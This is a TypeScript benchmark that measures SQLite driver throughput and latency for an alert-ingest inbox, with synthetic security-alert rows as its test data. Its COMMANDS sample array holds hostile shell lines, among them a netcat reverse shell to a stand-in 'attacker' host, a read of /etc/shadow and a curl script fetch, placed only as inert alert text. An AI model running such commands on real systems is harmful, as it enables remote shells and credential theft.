/**
 * Which SQLite driver, on which thread, should take the ingest inbox's append on the hot path?
 * Standalone (no server): the same group-commit statement the inbox runs,
 *
 *   INSERT INTO alert_inbox (entry) SELECT value FROM json_each(?)
 *
 * binding one JSON array text of entries (each a ~900-byte JSON array of 16 values, as
 * `inboxEntry` makes them), appended serially (each append awaited before the next) through
 *
 *   node-sqlite3            async, the statement runs on a libuv thread-pool thread (`db.run`,
 *                           as 0.1's SqliteInbox did: prepare, bind+run and finalize
 *                           are each a thread-pool hop and an event-loop callback)
 *   node-sqlite3-prepared   the same driver with one prepared Statement reused (`stmt.run`):
 *                           one hop per append; tells the driver apart from `db.run`'s overhead
 *   better-sqlite3-main     synchronous, on the event loop (a prepared statement)
 *   better-sqlite3-worker   synchronous inside a worker_threads Worker; the event loop only
 *                           posts the batch text and receives the reply
 *
 * with `PRAGMA synchronous` NORMAL and FULL (journal_mode WAL always), at batch size 1 (a serial
 * sender: round-trip latency is what it sees) and 50 (what 50 concurrent senders make). For
 * context, node-sqlite3 also appends the same rows into the wide `alerts` table with its 9
 * indexes, pre-filled with 200 000 rows.
 *
 * Per case: appends/s, rows/s, p50/p99 latency of one append, and the event-loop time the
 * append costs (performance.eventLoopUtilization over the measured window, less the time spent
 * building the batch texts, which the server pays whatever the driver). Each case has a fresh
 * temp directory, a warm-up, then runs BENCH_SECONDS (3) or BENCH_APPENDS (5000) appends,
 * whichever ends first. A table goes to stderr; the last stdout line is the JSON summary.
 *
 *   npx tsx apps/server/bench/sqlite-drivers.bench.ts
 */
import { randomUUID } from 'node:crypto';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { Worker } from 'node:worker_threads';
import Database from 'better-sqlite3';
import sqlite3 from 'sqlite3';

const SECONDS = Number(process.env['BENCH_SECONDS'] ?? 3);
const MAX_APPENDS = Number(process.env['BENCH_APPENDS'] ?? 5000);
const WARMUP_SECONDS = 0.3;
const WARMUP_APPENDS = 300;
const PREFILL_ROWS = Number(process.env['BENCH_PREFILL'] ?? 200_000);

type DriverName = 'node-sqlite3' | 'node-sqlite3-prepared' | 'better-sqlite3-main' | 'better-sqlite3-worker';
type Synchronous = 'NORMAL' | 'FULL';
type TableName = 'alert_inbox' | 'alerts';

interface CaseResult {
  driver: DriverName;
  synchronous: Synchronous;
  batch: number;
  table: TableName;
  appendsPerSecond: number;
  rowsPerSecond: number;
  p50Us: number;
  p99Us: number;
  eventLoopBlockedUsPerAppend: number;
}

// ---------------------------------------------------------------------------------------------
// Schema and statements
// ---------------------------------------------------------------------------------------------

const CREATE_INBOX = 'CREATE TABLE IF NOT EXISTS alert_inbox (id INTEGER PRIMARY KEY, entry TEXT NOT NULL)';
const APPEND_INBOX = 'INSERT INTO alert_inbox (entry) SELECT value FROM json_each(?)';

const COLUMNS = ['uuid', 'time_ns', 'time', 'priority', 'priority_value', 'rule', 'source', 'hostname', 'cluster', 'k8s_namespace', 'k8s_pod', 'output', 'output_fields', 'tags', 'received_at'] as const;
const DIMENSIONS = ['time_ns', 'priority_value', 'rule', 'source', 'cluster', 'hostname', 'k8s_namespace'] as const;

const CREATE_ALERTS = `CREATE TABLE alerts (id INTEGER PRIMARY KEY, uuid TEXT, time_ns INTEGER, time TEXT, priority TEXT, priority_value INTEGER,
  rule TEXT, source TEXT, hostname TEXT, cluster TEXT, k8s_namespace TEXT, k8s_pod TEXT, output TEXT, output_fields TEXT, tags TEXT, received_at INTEGER)`;

/** The store's 9 indexes: uuid (unique), received_at, and one covering index per dimension. */
function alertIndexes(): string[] {
  const covering = DIMENSIONS.map((lead) => {
    // As the query-indexes migration orders them: the lead, then priority and time, then the rest.
    const first = lead === 'time_ns' ? [] : lead === 'priority_value' ? ['time_ns'] : ['priority_value', 'time_ns'];
    const rest = DIMENSIONS.filter((column) => column !== lead && !first.includes(column));
    return `CREATE INDEX idx_alerts_${lead}_dims ON alerts (${[lead, ...first, ...rest].join(', ')})`;
  });
  return ['CREATE UNIQUE INDEX idx_alerts_uuid ON alerts (uuid)', 'CREATE INDEX idx_alerts_received_at ON alerts (received_at)', ...covering];
}

const APPEND_ALERTS = `INSERT INTO alerts (${COLUMNS.join(', ')}) SELECT ${COLUMNS.map((_, i) => `value ->> ${i}`).join(', ')} FROM json_each(?) WHERE true ON CONFLICT (uuid) DO NOTHING`;

// ---------------------------------------------------------------------------------------------
// Realistic entries
// ---------------------------------------------------------------------------------------------

const RULES = [
  'Terminal shell in container', 'Read sensitive file untrusted', 'Write below etc', 'Launch Privileged Container', 'Contact K8S API Server From Container',
  'Drop and execute new binary in container', 'Redirect STDOUT/STDIN to Network Connection in Container', 'Search Private Keys or Passwords', 'Clear Log Activities',
  'Create Privileged Pod', 'Attach/Exec Pod', 'Create Sensitive Mount Pod', 'Create HostNetwork Pod', 'K8s Secret Get Successfully', 'Create Disallowed Pod',
  'ClusterRole With Wildcard Created', 'Attach to cluster-admin Role', 'K8s Serviceaccount Created', 'Anonymous Request Allowed', 'Service Account Created in Kube Namespace',
  'Netcat Remote Code Execution in Container', 'Packet socket created in container', 'Run shell untrusted', 'Modify Shell Configuration File', 'Schedule Cron Jobs',
  'Unexpected K8s NodePort Connection', 'Create Symlink Over Sensitive Files', 'Change thread namespace', 'PTRACE attached to process', 'Fileless execution via memfd_create',
  'Read ssh information', 'Launch Suspicious Network Tool in Container', 'Mount Launched in Privileged Container', 'Debugfs Launched in Privileged Container',
  'Detect release_agent File Container Escapes', 'Java Process Class File Download', 'Linux Kernel Module Injection Detected', 'Delete or rename shell history',
  'Set Setuid or Setgid bit', 'Outbound Connection to C2 Servers',
];
const PRIORITIES: ReadonlyArray<readonly [string, number]> = [['Critical', 2], ['Error', 3], ['Warning', 4], ['Notice', 5], ['Informational', 6], ['Debug', 7]];
const CLUSTERS = ['eu-west', 'us-east', 'ap-south'];
const NAMESPACES = ['production', 'payments', 'checkout', 'search', 'staging', 'monitoring', 'ingress-nginx', 'kube-system', 'data', 'default'];
const HOSTNAMES = Array.from({ length: 20 }, (_, i) => `worker-${i}.${CLUSTERS[i % CLUSTERS.length]}-1.compute.internal`);
const IMAGES = ['docker.io/library/nginx', 'registry.example.com/payments/api', 'quay.io/prometheus/node-exporter', 'docker.io/library/redis', 'ghcr.io/acme/checkout-web'];
const COMMANDS = ['bash -c ls /var/run/secrets', 'sh -c cat /etc/shadow', 'nc -e /bin/sh attacker 4444', 'python3 -c import pty;pty.spawn("/bin/bash")', 'curl -s http://example.com/x.sh'];

function pick<T>(values: readonly T[]): T {
  return values[Math.floor(Math.random() * values.length)] as T;
}

/** Everything of an entry but its uuid and times: drawn once, reused by many entries. */
interface Template {
  priority: string;
  priorityValue: number;
  rule: string;
  source: string;
  hostname: string;
  cluster: string;
  namespace: string;
  pod: string;
  output: string;
  outputFields: string;
  tags: string;
  routes: string[];
}

function template(): Template {
  const [priority, priorityValue] = pick(PRIORITIES);
  const rule = pick(RULES);
  const hostname = pick(HOSTNAMES);
  const cluster = pick(CLUSTERS);
  const namespace = pick(NAMESPACES);
  const pod = `web-${Math.random().toString(16).slice(2, 11)}-${Math.random().toString(36).slice(2, 7)}`;
  const image = pick(IMAGES);
  const command = pick(COMMANDS);
  const containerId = Math.random().toString(16).slice(2, 14).padEnd(12, '0');
  const output = `14:05:27.146981532: ${priority} ${rule} (evt_type=execve user=root process=bash command=${command} container_id=${containerId} container_image=${image} k8s_ns=${namespace} k8s_pod_name=${pod})`;
  // evt.time is a nanosecond integer beyond 2^53, as Falco sends it: spliced in as text.
  const outputFields = JSON.stringify({
    'container.id': containerId, 'container.image.repository': image, 'container.image.tag': '1.27', 'container.name': 'web', 'evt.type': 'execve',
    'evt.time': 0, 'k8s.ns.name': namespace, 'k8s.pod.name': pod, 'proc.cmdline': command, 'proc.name': 'bash', 'proc.pname': 'runc',
    'user.loginuid': -1, 'user.name': 'root', 'user.uid': 0,
  }).replace('"evt.time":0', '"evt.time":1795442727146981532');
  return {
    priority, priorityValue, rule, source: Math.random() < 0.8 ? 'syscall' : 'k8s_audit', hostname, cluster, namespace, pod, output, outputFields,
    tags: JSON.stringify(['container', 'shell', 'mitre_execution', 'T1059']), routes: ['slack-secops'],
  };
}

const TEMPLATES = Array.from({ length: 1000 }, template);
let nextTimeNs = BigInt(Date.now()) * 1_000_000n;

/** One inbox entry as `inboxEntry` makes it: the 15 row values, then the routes. */
function entry(timeNs: bigint): unknown[] {
  const t = TEMPLATES[Math.floor(Math.random() * TEMPLATES.length)] as Template;
  const ms = Number(timeNs / 1_000_000n);
  return [
    randomUUID(), timeNs.toString(), `${new Date(ms).toISOString().slice(0, -1)}146981Z`, t.priority, t.priorityValue, t.rule, t.source, t.hostname, t.cluster,
    t.namespace, t.pod, t.output, t.outputFields, t.tags, ms + 3, t.routes,
  ];
}

/** The text bound to the append: a JSON array of `size` fresh entries (new uuids, later times). */
function batchText(size: number): string {
  const entries: unknown[][] = [];
  for (let i = 0; i < size; i++) {
    nextTimeNs += 1_000_000n + BigInt(Math.floor(Math.random() * 1_000_000));
    entries.push(entry(nextTimeNs));
  }
  return JSON.stringify(entries);
}

// ---------------------------------------------------------------------------------------------
// Drivers
// ---------------------------------------------------------------------------------------------

interface Appender {
  /** Resolves once the batch is committed. */
  append(text: string): Promise<void>;
  /** `PRAGMA synchronous` and `journal_mode` as the connection reports them, and the row count. */
  check(table: TableName): Promise<{ synchronous: number; journalMode: string; rows: number }>;
  close(): Promise<void>;
}

const SYNCHRONOUS_VALUE: Record<Synchronous, number> = { NORMAL: 1, FULL: 2 };

async function openNodeSqlite3(path: string, synchronous: Synchronous, create: string | null, insert: string, prepared: boolean): Promise<Appender> {
  const db = await new Promise<sqlite3.Database>((resolve, reject) => {
    const opened: sqlite3.Database = new sqlite3.Database(path, (error) => (error ? reject(error) : resolve(opened)));
  });
  db.configure('busyTimeout', 5000);
  const run = (sql: string, parameters: unknown[] = []): Promise<void> =>
    new Promise((resolve, reject) => db.run(sql, parameters, (error: Error | null) => (error ? reject(error) : resolve())));
  const get = <T>(sql: string): Promise<T> => new Promise((resolve, reject) => db.get<T>(sql, (error: Error | null, row: T) => (error ? reject(error) : resolve(row))));
  await run('PRAGMA journal_mode = WAL');
  await run(`PRAGMA synchronous = ${synchronous}`);
  if (create) await run(create);
  const statement = prepared
    ? await new Promise<sqlite3.Statement>((resolve, reject) => {
        const made: sqlite3.Statement = db.prepare(insert, (error: Error | null) => (error ? reject(error) : resolve(made)));
      })
    : null;
  return {
    append: statement
      ? (text) => new Promise((resolve, reject) => statement.run([text], (error: Error | null) => (error ? reject(error) : resolve())))
      : (text) => run(insert, [text]),
    check: async (table) => ({
      synchronous: (await get<{ synchronous: number }>('PRAGMA synchronous')).synchronous,
      journalMode: (await get<{ journal_mode: string }>('PRAGMA journal_mode')).journal_mode,
      rows: (await get<{ n: number }>(`SELECT count(*) AS n FROM ${table}`)).n,
    }),
    close: async () => {
      if (statement) await new Promise<void>((resolve) => statement.finalize(() => resolve()));
      await new Promise<void>((resolve, reject) => db.close((error) => (error ? reject(error) : resolve())));
    },
  };
}

function openBetterSqlite3Main(path: string, synchronous: Synchronous, create: string | null, insert: string): Appender {
  const db = new Database(path);
  db.pragma('journal_mode = WAL');
  db.pragma(`synchronous = ${synchronous}`);
  if (create) db.exec(create);
  const statement = db.prepare<[string]>(insert);
  return {
    append: async (text) => {
      statement.run(text);
    },
    check: async (table) => ({
      synchronous: db.pragma('synchronous', { simple: true }) as number,
      journalMode: db.pragma('journal_mode', { simple: true }) as string,
      rows: (db.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n,
    }),
    close: async () => {
      db.close();
    },
  };
}

/**
 * The worker: plain CommonJS, evaluated (no TypeScript loader needed in the thread). A string
 * message is a batch to append (reply: 0, or the error text); an object is a request.
 */
const WORKER_SOURCE = `
const { parentPort, workerData } = require('node:worker_threads');
const Database = require(workerData.module);
const db = new Database(workerData.path);
db.pragma('journal_mode = WAL');
db.pragma('synchronous = ' + workerData.synchronous);
if (workerData.create) db.exec(workerData.create);
const statement = db.prepare(workerData.insert);
parentPort.on('message', (message) => {
  if (typeof message === 'string') {
    try { statement.run(message); parentPort.postMessage(0); } catch (error) { parentPort.postMessage(String(error && error.message || error)); }
  } else if (message.type === 'check') {
    parentPort.postMessage({
      synchronous: db.pragma('synchronous', { simple: true }),
      journalMode: db.pragma('journal_mode', { simple: true }),
      rows: db.prepare('SELECT count(*) AS n FROM ' + message.table).get().n,
    });
  } else if (message.type === 'close') {
    db.close();
    parentPort.postMessage({ closed: true });
  }
});
parentPort.postMessage({ ready: true });
`;

async function openBetterSqlite3Worker(path: string, synchronous: Synchronous, create: string | null, insert: string): Promise<Appender> {
  const worker = new Worker(WORKER_SOURCE, { eval: true, workerData: { module: require.resolve('better-sqlite3'), path, synchronous, create, insert } });
  // Replies come in request order: one FIFO of waiters.
  const waiting: Array<{ resolve: (reply: unknown) => void; reject: (error: Error) => void }> = [];
  const next = (): Promise<unknown> => new Promise((resolve, reject) => waiting.push({ resolve, reject }));
  worker.on('message', (reply: unknown) => waiting.shift()?.resolve(reply));
  worker.on('error', (error: Error) => {
    for (const waiter of waiting.splice(0)) waiter.reject(error);
  });
  await next(); // ready
  return {
    append: async (text) => {
      const reply = next();
      worker.postMessage(text);
      const result = await reply;
      if (result !== 0) throw new Error(String(result));
    },
    check: async (table) => {
      const reply = next();
      worker.postMessage({ type: 'check', table });
      return (await reply) as { synchronous: number; journalMode: string; rows: number };
    },
    close: async () => {
      const reply = next();
      worker.postMessage({ type: 'close' });
      await reply;
      await worker.terminate();
    },
  };
}

function open(driver: DriverName, path: string, synchronous: Synchronous, create: string | null, insert: string): Promise<Appender> {
  switch (driver) {
    case 'node-sqlite3':
      return openNodeSqlite3(path, synchronous, create, insert, false);
    case 'node-sqlite3-prepared':
      return openNodeSqlite3(path, synchronous, create, insert, true);
    case 'better-sqlite3-main':
      return Promise.resolve(openBetterSqlite3Main(path, synchronous, create, insert));
    case 'better-sqlite3-worker':
      return openBetterSqlite3Worker(path, synchronous, create, insert);
  }
}

// ---------------------------------------------------------------------------------------------
// Measuring
// ---------------------------------------------------------------------------------------------

interface Loop {
  appends: number;
  seconds: number;
  latenciesUs: Float64Array;
  /** Time spent building batch texts (not the driver's cost). */
  buildSeconds: number;
  /** Time from calling append() to its return: the synchronous part of the call. */
  callSeconds: number;
}

/** Serial appends, each awaited, until `seconds` have passed or `maxAppends` are done. */
async function appendLoop(appender: Appender, batch: number, seconds: number, maxAppends: number): Promise<Loop> {
  const latenciesUs = new Float64Array(maxAppends);
  let appends = 0;
  let buildSeconds = 0;
  let callSeconds = 0;
  const started = performance.now();
  const deadline = started + seconds * 1000;
  while (appends < maxAppends && performance.now() < deadline) {
    const b0 = performance.now();
    const text = batchText(batch);
    const t0 = performance.now();
    const committed = appender.append(text);
    const t1 = performance.now();
    await committed;
    const t2 = performance.now();
    buildSeconds += (t0 - b0) / 1000;
    callSeconds += (t1 - t0) / 1000;
    latenciesUs[appends++] = (t2 - t0) * 1000;
  }
  return { appends, seconds: (performance.now() - started) / 1000, latenciesUs: latenciesUs.subarray(0, appends), buildSeconds, callSeconds };
}

function percentile(sorted: Float64Array, p: number): number {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)] as number;
}

const round1 = (value: number): number => Math.round(value * 10) / 10;

interface Extra {
  meanUs: number;
  maxUs: number;
  callUs: number;
  buildUs: number;
  appends: number;
}

async function measureCase(driver: DriverName, synchronous: Synchronous, batch: number, table: TableName, template: string | null): Promise<CaseResult & Extra> {
  const dir = mkdtempSync(join(tmpdir(), 'peregrine-sqlite-drivers-'));
  try {
    const path = join(dir, table === 'alert_inbox' ? 'bench.inbox.db' : 'bench.db');
    if (template) copyFileSync(template, path);
    const appender = await open(driver, path, synchronous, table === 'alert_inbox' ? CREATE_INBOX : null, table === 'alert_inbox' ? APPEND_INBOX : APPEND_ALERTS);
    try {
      const before = (await appender.check(table)).rows;
      const warm = await appendLoop(appender, batch, WARMUP_SECONDS, WARMUP_APPENDS);
      const elu0 = performance.eventLoopUtilization();
      const loop = await appendLoop(appender, batch, SECONDS, MAX_APPENDS);
      const elu = performance.eventLoopUtilization(elu0);
      const check = await appender.check(table);
      const expected = before + (warm.appends + loop.appends) * batch;
      if (check.synchronous !== SYNCHRONOUS_VALUE[synchronous] || check.journalMode !== 'wal' || check.rows !== expected) {
        throw new Error(`${driver}/${synchronous}/${batch}/${table}: synchronous=${check.synchronous} journal_mode=${check.journalMode} rows=${check.rows} (expected ${expected})`);
      }
      const sorted = Float64Array.from(loop.latenciesUs).sort();
      // ELU's active time covers everything the event loop did in the window; the batch texts
      // are built whatever the driver, so they are taken out.
      const blockedSeconds = Math.max(0, elu.active / 1000 - loop.buildSeconds);
      const appendsPerSecond = loop.appends / loop.seconds;
      return {
        driver, synchronous, batch, table,
        appendsPerSecond: round1(appendsPerSecond),
        rowsPerSecond: round1(appendsPerSecond * batch),
        p50Us: round1(percentile(sorted, 50)),
        p99Us: round1(percentile(sorted, 99)),
        eventLoopBlockedUsPerAppend: round1((blockedSeconds / loop.appends) * 1e6),
        meanUs: round1(sorted.reduce((sum, value) => sum + value, 0) / sorted.length),
        maxUs: round1(sorted[sorted.length - 1] ?? NaN),
        callUs: round1((loop.callSeconds / loop.appends) * 1e6),
        buildUs: round1((loop.buildSeconds / loop.appends) * 1e6),
        appends: loop.appends,
      };
    } finally {
      await appender.close();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The wide table with its indexes and PREFILL_ROWS rows over the last 7 days, checkpointed into one file. */
function prefillAlerts(dir: string): string {
  const path = join(dir, 'prefilled.db');
  const db = new Database(path);
  db.pragma('journal_mode = WAL');
  db.pragma('synchronous = OFF');
  db.exec(CREATE_ALERTS);
  // Indexes come after the rows (faster), so no ON CONFLICT target exists yet.
  const insert = db.prepare<[string]>(APPEND_ALERTS.replace(' ON CONFLICT (uuid) DO NOTHING', ''));
  const chunk = 5000;
  const startNs = (BigInt(Date.now()) - 7n * 24n * 3600n * 1000n) * 1_000_000n;
  const stepNs = (7n * 24n * 3600n * 1000n * 1_000_000n) / BigInt(PREFILL_ROWS);
  for (let done = 0; done < PREFILL_ROWS; done += chunk) {
    const entries: unknown[][] = [];
    for (let i = done; i < Math.min(PREFILL_ROWS, done + chunk); i++) entries.push(entry(startNs + BigInt(i) * stepNs));
    insert.run(JSON.stringify(entries));
  }
  for (const statement of alertIndexes()) db.exec(statement);
  db.pragma('wal_checkpoint(TRUNCATE)');
  db.close();
  return path;
}

function render(results: ReadonlyArray<CaseResult & Extra>): string {
  const header = ['driver', 'sync', 'batch', 'table', 'appends', 'appends/s', 'rows/s', 'p50 µs', 'p99 µs', 'mean µs', 'max µs', 'loop µs/append', 'call µs', 'build µs'];
  const rows = results.map((r) => [
    r.driver, r.synchronous, String(r.batch), r.table, String(r.appends), r.appendsPerSecond.toFixed(0), r.rowsPerSecond.toFixed(0),
    r.p50Us.toFixed(1), r.p99Us.toFixed(1), r.meanUs.toFixed(1), r.maxUs.toFixed(0), r.eventLoopBlockedUsPerAppend.toFixed(1), r.callUs.toFixed(1), r.buildUs.toFixed(1),
  ]);
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((row) => (row[i] as string).length)));
  const line = (cells: string[]): string => cells.map((cell, i) => (i < 4 ? cell.padEnd(widths[i] as number) : cell.padStart(widths[i] as number))).join('  ');
  return [line(header), line(widths.map((w) => '-'.repeat(w))), ...rows.map(line)].join('\n');
}

async function main(): Promise<void> {
  const started = performance.now();
  const memory = new Database(':memory:');
  const version = memory.prepare('SELECT sqlite_version()').pluck().get() as string;
  memory.close();
  process.stderr.write(`sqlite-drivers: entry ≈ ${((batchText(1000).length - 2) / 1000).toFixed(0)} bytes; SQLite ${version} (better-sqlite3), ${sqlite3.VERSION} (node-sqlite3); ${SECONDS} s or ${MAX_APPENDS} appends per case\n`);

  const results: Array<CaseResult & Extra> = [];
  const drivers: DriverName[] = ['node-sqlite3', 'node-sqlite3-prepared', 'better-sqlite3-main', 'better-sqlite3-worker'];
  for (const synchronous of ['NORMAL', 'FULL'] as const) {
    for (const batch of [1, 50]) {
      for (const driver of drivers) {
        const result = await measureCase(driver, synchronous, batch, 'alert_inbox', null);
        results.push(result);
        process.stderr.write(`  ${driver} ${synchronous} batch ${batch}: ${result.appendsPerSecond.toFixed(0)} appends/s, p50 ${result.p50Us} µs, p99 ${result.p99Us} µs, loop ${result.eventLoopBlockedUsPerAppend} µs/append\n`);
      }
    }
  }

  const prefillDir = mkdtempSync(join(tmpdir(), 'peregrine-sqlite-drivers-prefill-'));
  try {
    const p0 = performance.now();
    const template = prefillAlerts(prefillDir);
    process.stderr.write(`  prefilled alerts with ${PREFILL_ROWS} rows and 9 indexes in ${((performance.now() - p0) / 1000).toFixed(1)} s\n`);
    for (const batch of [1, 50]) {
      const result = await measureCase('node-sqlite3', 'NORMAL', batch, 'alerts', template);
      results.push(result);
      process.stderr.write(`  node-sqlite3 NORMAL batch ${batch} (alerts, 9 indexes): ${result.appendsPerSecond.toFixed(0)} appends/s, p50 ${result.p50Us} µs, p99 ${result.p99Us} µs\n`);
    }
  } finally {
    rmSync(prefillDir, { recursive: true, force: true });
  }

  process.stderr.write(`\n${render(results)}\n`);
  process.stderr.write('latencies are per append (call to commit); loop µs/append: event-loop active time per append (ELU, less batch building); call µs: the synchronous part of append(); build µs: JSON of the batch (paid whatever the driver)\n');
  process.stderr.write(`total ${((performance.now() - started) / 1000).toFixed(1)} s\n`);
  const cases: CaseResult[] = results.map(({ driver, synchronous, batch, table, appendsPerSecond, rowsPerSecond, p50Us, p99Us, eventLoopBlockedUsPerAppend }) => ({
    driver, synchronous, batch, table, appendsPerSecond, rowsPerSecond, p50Us, p99Us, eventLoopBlockedUsPerAppend,
  }));
  process.stdout.write(`${JSON.stringify({ name: 'sqlite-drivers', cases })}\n`);
}

main().catch((error: unknown) => {
  process.stderr.write(`${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
  process.exit(1);
});
